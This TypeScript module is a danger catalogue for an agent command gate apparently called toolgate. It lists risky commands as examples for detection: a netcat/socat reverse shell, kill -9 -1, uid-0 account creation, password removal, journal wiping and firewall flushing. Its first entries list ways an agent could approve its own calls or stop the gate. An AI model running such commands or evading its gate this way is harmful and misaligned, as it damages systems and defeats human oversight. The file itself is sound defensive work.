// Danger catalogue, the machine: privilege, processes, services, firewall, power, scheduled jobs, users.
import type { DangerEntry } from './danger-entry.ts';
import { hasFlag, operands, optionValue } from './flags.ts';
import {
  applescriptLeavesSession,
  dsclGivesUidZero,
  firewallReadOnly,
  isKill,
  KILL_SIGNALS,
  killall5SignalsAll,
  windowsKillsByName,
  killParse,
  killsListedEveryProcess,
  onlyProbesProcess,
  onlyShowsSettings,
  PRIVILEGE,
  readsLogsOnly,
  runsToolgateAsReviewer,
  SERVICE_READS,
  STOPPERS,
  stopsToolgate,
  usesReviewerToken,
} from './danger-system-match.ts';
export { PRIVILEGE } from './danger-system-match.ts';

export const SYSTEM_DANGERS: DangerEntry[] = [
  {
    id: 'toolgate-reviewer',
    risk: 'high',
    reason:
      "acts as toolgate's reviewer (answers approvals, changes rules, uses the reviewer token): an agent must not approve its own calls",
    examples: [
      'npx toolgate approvals resolve 0192a --choice allow_always',
      'toolgate rules add allow "bash(*)"',
      'node bin/toolgate.js review',
      'curl -H "Authorization: Bearer $TOOLGATE_REVIEWER_TOKEN" -X POST http://127.0.0.1:7411/v1/approvals/x/resolve -d \'{"choice":"allow_once"}\'',
      // Its code under other names and ways in (toolgate-code.ts).
      'node ./node_modules/toolgate/dist/cli/main.js approvals resolve 01 --choice allow_once',
      'node /tmp/tg.js approvals resolve 01 --choice allow_once',
      "node --input-type=module -e \"import('/opt/toolgate/dist/cli/main.js').then((m) => m.main(['approvals', 'resolve', '01', '--choice', 'allow_once']))\"",
      'node -e "require(\'toolgate/dist/cli/approvals.js\')"',
    ],
    match: (v) => runsToolgateAsReviewer(v) || usesReviewerToken(v),
  },
  {
    id: 'toolgate-stop',
    risk: 'high',
    reason:
      "stops toolgate itself (kills its process, stops its service or container): the agent's next calls may go unchecked",
    programs: [...STOPPERS],
    examples: [
      'pkill -f toolgate',
      'kill $(pgrep -f "toolgate serve")',
      'systemctl --user stop toolgate',
      'docker rm -f toolgate',
    ],
    match: stopsToolgate,
  },
  {
    id: 'privilege',
    risk: 'medium',
    reason: "runs with root (or another user's) privileges",
    examples: ['sudo apt-get install -y jq', 'doas sh', 'pkexec bash', 'su -', 'sudo -i'],
    match: (v) => PRIVILEGE.has(v.program) || (v.wrappers.some((w) => PRIVILEGE.has(w)) && !readsLogsOnly(v)),
  },
  {
    id: 'kill-everything',
    risk: 'high',
    reason: 'signals every process (kill -1, killall5, kill $(ps -e)) or init (pid 1)',
    programs: ['kill', 'killall5'],
    hostOnly: true,
    examples: [
      'kill -9 -1',
      '/bin/kill -TERM -- -1',
      'kill -- -1',
      'kill -9 1',
      'killall5 -9',
      'killall5 -15',
      'kill $(ps -e -o pid=)',
      "kill -9 $(ps aux | awk '{print $2}')",
    ],
    match: (v) =>
      (isKill(v) &&
        killParse(v.args).signal !== '0' &&
        killParse(v.args).targets.some((t) => t === '-1' || t === '1')) ||
      killall5SignalsAll(v) ||
      killsListedEveryProcess(v),
  },
  {
    id: 'kill-force',
    risk: 'medium',
    reason: 'kill -9: the process cannot clean up',
    programs: ['kill'],
    examples: ['kill -9 4242', 'kill -s 9 4242', 'kill -KILL 12', 'kill -SIGKILL 12', 'kill --signal KILL 3'],
    match: (v) => isKill(v) && KILL_SIGNALS.test(killParse(v.args).signal),
  },
  {
    id: 'kill-by-name',
    risk: 'medium',
    // (PowerShell's `Stop-Process -Name`, `taskkill /IM` are pkill's kin: the reason stays as users know it.)
    reason: 'kills processes by name (pkill, killall) or by what they hold open (fuser -k)',
    programs: [
      'pkill',
      'killall',
      'xkill',
      'skill',
      'slay',
      'fuser',
      'pwsh',
      'pwsh.exe',
      'powershell',
      'powershell.exe',
      'taskkill',
      'taskkill.exe',
      'wmic',
      'wmic.exe',
      'cmd',
      'cmd.exe',
    ],
    examples: [
      'pkill node',
      'killall -9 java',
      'xkill',
      'fuser -k 80/tcp',
      'pwsh -c "Get-Process dotnet | Stop-Process -Force"',
      'powershell -NoProfile -Command "Stop-Process -Name node -Force"',
      'pwsh -c "gps | ? { $_.CPU -gt 90 } | kill"',
      'pwsh -c "(Get-Process chrome).Kill()"',
      'taskkill /F /IM node.exe',
      'cmd /c "taskkill /F /IM dotnet.exe /T"',
      'wmic process where "name=\'java.exe\'" delete',
    ],
    match: (v) =>
      (/^(pkill|killall|xkill|skill|slay)$/.test(v.program) && !onlyProbesProcess(v)) ||
      (v.program === 'fuser' && v.args.some((a) => /^-[a-zA-Z]*k/.test(a) || a === '--kill')) ||
      windowsKillsByName(v),
  },
  {
    id: 'firewall',
    risk: 'medium',
    reason:
      "changes (or reads with privilege) the firewall (iptables, nft, ufw, pf, ipfw, macOS's application firewall)",
    examples: [
      'iptables -F',
      'ip6tables -F',
      'nft flush ruleset',
      'ufw disable',
      'firewall-cmd --reload',
      'pfctl -d',
      'ipfw -f flush',
      '/usr/libexec/ApplicationFirewall/socketfilterfw --setglobalstate off',
    ],
    programs: [
      'iptables',
      'ip6tables',
      'iptables-restore',
      'ip6tables-restore',
      'iptables-legacy',
      'nft',
      'ufw',
      'firewall-cmd',
      'pfctl',
      'ebtables',
      'arptables',
      'ipfw',
      'socketfilterfw',
    ],
    match: (v) => !firewallReadOnly(v),
  },
  {
    id: 'macos-protection-off',
    risk: 'medium',
    reason:
      'turns off a macOS protection (System Integrity Protection, Gatekeeper): tampered or unsigned code then runs unchecked',
    programs: ['csrutil', 'spctl'],
    examples: ['csrutil disable', 'spctl --master-disable', 'spctl --global-disable'],
    match: (v) =>
      (v.program === 'csrutil' && v.args.includes('disable')) ||
      (v.program === 'spctl' && v.args.some((a) => /^--(master-disable|global-disable|disable)$/.test(a))),
  },
  {
    id: 'power-state',
    risk: 'high',
    reason: 'reboots, halts or powers off the machine (or logs its user out)',
    programs: ['reboot', 'shutdown', 'halt', 'poweroff', 'kexec', 'init', 'telinit', 'systemctl', 'osascript'],
    examples: [
      'reboot',
      'shutdown -h now',
      'poweroff',
      'systemctl reboot',
      'init 0',
      'halt',
      'osascript -e \'tell app "System Events" to restart\'',
      'osascript -e \'tell app "System Events" to log out\'',
    ],
    match: (v) =>
      /^(reboot|shutdown|halt|poweroff|kexec)$/.test(v.program) ||
      ((v.program === 'init' || v.program === 'telinit') && /^[06]$/.test(v.args[0] ?? '')) ||
      (v.program === 'systemctl' &&
        v.args.some((a) => /^(reboot|poweroff|halt|kexec|emergency|rescue|suspend|hibernate)$/.test(a))) ||
      (v.program === 'osascript' && applescriptLeavesSession(v.args)),
  },
  {
    id: 'service-control',
    risk: 'medium',
    reason: 'starts, stops or reconfigures a system service',
    programs: [
      'systemctl',
      'service',
      'rc-service',
      'rc-update',
      'launchctl',
      'initctl',
      'sv',
      'supervisorctl',
      'update-rc.d',
      'chkconfig',
    ],
    examples: [
      'systemctl restart nginx',
      'service sshd stop',
      'rc-service nginx stop',
      'launchctl unload x.plist',
      'supervisorctl stop all',
    ],
    match: (v) => {
      if (
        !/^(systemctl|service|rc-service|rc-update|launchctl|initctl|sv|supervisorctl|update-rc\.d|chkconfig)$/.test(
          v.program,
        )
      )
        return false;
      if (v.args.includes('--status-all')) return false;
      const ops = operands(v.args, ['-H', '--host', '-M', '--machine', '-t', '--type', '-p', '--property']);
      if (ops.length === 0) return v.program !== 'systemctl' && v.program !== 'launchctl';
      return !ops.some((o) => SERVICE_READS.has(o));
    },
  },
  {
    // A SysV init script run by its path (`/etc/init.d/nginx stop`): what `service nginx stop` runs.
    id: 'init-script-control',
    risk: 'medium',
    reason: 'starts, stops or reconfigures a system service',
    examples: ['/etc/init.d/nginx stop', 'sudo /etc/rc.d/init.d/sshd restart'],
    match: (v) =>
      /^\/etc\/(init\.d|rc\.d(\/init\.d)?)\/[^/]+$/.test(v.argv[0] ?? '') &&
      v.args.length > 0 &&
      !SERVICE_READS.has(v.args[0]!),
  },
  {
    id: 'crontab-remove',
    risk: 'high',
    reason: 'crontab -r removes every scheduled job without asking',
    programs: ['crontab'],
    examples: ['crontab -r', 'crontab -u www -r'],
    match: (v) => v.program === 'crontab' && v.args.some((a) => /^-[a-z]*r/.test(a) && a !== '--'),
  },
  {
    id: 'crontab-replace',
    risk: 'medium',
    reason: 'installs a crontab (scheduled commands that persist)',
    programs: ['crontab'],
    examples: ['crontab jobs.txt', 'echo "* * * * * x" | crontab -', 'crontab -e'],
    match: (v) => v.program === 'crontab' && !v.args.includes('-l') && !v.args.some((a) => /^-[a-z]*r/.test(a)),
  },
  {
    id: 'schedule-later',
    risk: 'medium',
    reason: 'schedules commands to run later, when no one is watching (at, batch)',
    programs: ['at', 'batch'],
    examples: ['at now + 5 minutes -f job.sh', "echo 'make deploy' | at midnight", 'batch < jobs.txt'],
    match: (v) =>
      (v.program === 'at' || v.program === 'batch') &&
      !v.args.some((a) => /^-[a-zA-Z]*[lrdc]$/.test(a) || a === '--list'),
  },
  {
    // `useradd -o -u 0 x`, `usermod -u 0 x`: a second root account (uid 0) under another name.
    id: 'root-account',
    risk: 'high',
    reason: 'gives an account user id 0 (useradd/usermod -u 0, dscl … UniqueID 0): another root login',
    programs: ['useradd', 'usermod', 'adduser', 'dscl'],
    examples: [
      'useradd -o -u 0 evil',
      'usermod -u 0 -o bob',
      'useradd --uid 0 --non-unique x',
      'dscl . -create /Users/toor UniqueID 0',
    ],
    match: (v) =>
      dsclGivesUidZero(v) ||
      (v.program !== 'dscl' &&
        v.args.some(
          (a, i) => ((a === '-u' || a === '--uid') && /^0+$/.test(v.args[i + 1] ?? '')) || /^--uid=0+$/.test(a),
        )),
  },
  {
    id: 'user-remove-home',
    risk: 'high',
    reason:
      "deletes a user together with their home directory and mail (userdel -r, deluser --remove-home): the user's files are gone",
    programs: ['userdel', 'deluser'],
    examples: ['userdel -r bob', 'userdel --remove bob', 'deluser --remove-home bob', 'deluser --remove-all-files bob'],
    match: (v) =>
      (v.program === 'userdel' && hasFlag(v.args, 'r', ['--remove'])) ||
      (v.program === 'deluser' && v.args.some((a) => /^--remove-(home|all-files)$/.test(a))),
  },
  {
    id: 'account-no-password',
    risk: 'high',
    reason: "removes an account's password (passwd -d, usermod -p ''): anyone may then log in as that user without one",
    programs: ['passwd', 'usermod'],
    examples: ['passwd -d root', 'passwd --delete bob', "usermod -p '' bob"],
    match: (v) =>
      (v.program === 'passwd' && hasFlag(v.args, 'd', ['--delete'])) ||
      (v.program === 'usermod' && optionValue(v.args, ['-p', '--password']) === ''),
  },
  {
    id: 'journal-wipe',
    risk: 'high',
    reason:
      "deletes the system journal's archived files (journalctl --vacuum-time/-size/-files): the record of what ran on the machine goes with them",
    programs: ['journalctl'],
    examples: ['journalctl --vacuum-time=1s', 'journalctl --vacuum-size=1K', 'journalctl --vacuum-files=1'],
    match: (v) => v.args.some((a) => /^--vacuum-(time|size|files)(=|$)/.test(a)),
  },
  {
    id: 'login-hook',
    risk: 'high',
    reason:
      'installs a macOS login or logout hook (defaults write com.apple.loginwindow LoginHook): the script runs as root at every login',
    programs: ['defaults'],
    examples: [
      'defaults write com.apple.loginwindow LoginHook /tmp/hook.sh',
      'sudo defaults write com.apple.loginwindow LogoutHook /tmp/hook.sh',
    ],
    match: (v) =>
      v.args[0] === 'write' &&
      v.args.some((a) => /loginwindow/.test(a)) &&
      v.args.some((a) => /^Log(in|out)Hook$/i.test(a)),
  },
  {
    id: 'system-admin',
    risk: 'medium',
    reason: 'changes users, kernel modules, mounts or kernel parameters',
    examples: [
      'useradd bob',
      'passwd root',
      'modprobe evil',
      'mount /dev/sdb1 /mnt',
      'sysctl -w net.ipv4.ip_forward=1',
      'visudo',
      'swapoff -a',
    ],
    match: (v) =>
      (/^(useradd|userdel|usermod|adduser|deluser|groupadd|groupdel|passwd|chpasswd|chsh|visudo|modprobe|insmod|rmmod|mount|umount|swapoff|swapon|setenforce|chattr|hostnamectl|timedatectl|update-alternatives)$/.test(
        v.program,
      ) &&
        !onlyShowsSettings(v)) ||
      (v.program === 'sysctl' && v.args.some((a) => a === '-w' || a.includes('=') || a === '-p')),
  },
  {
    id: 'reverse-shell',
    risk: 'high',
    reason: 'connects a shell to the network (nc -e, socat exec:)',
    programs: ['nc', 'ncat', 'netcat', 'socat'],
    examples: [
      'nc -e /bin/sh 203.0.113.1 4444',
      'ncat --exec /bin/bash 10.0.0.1 9',
      'socat tcp:10.0.0.1:9 exec:/bin/sh',
    ],
    match: (v) =>
      (/^(nc|ncat|netcat)$/.test(v.program) &&
        optionValue(v.args, ['-e', '-c', '--exec', '--sh-exec', '--lua-exec']) !== undefined) ||
      (v.program === 'socat' && v.args.some((a) => /^(exec|system):/i.test(a))),
  },
];
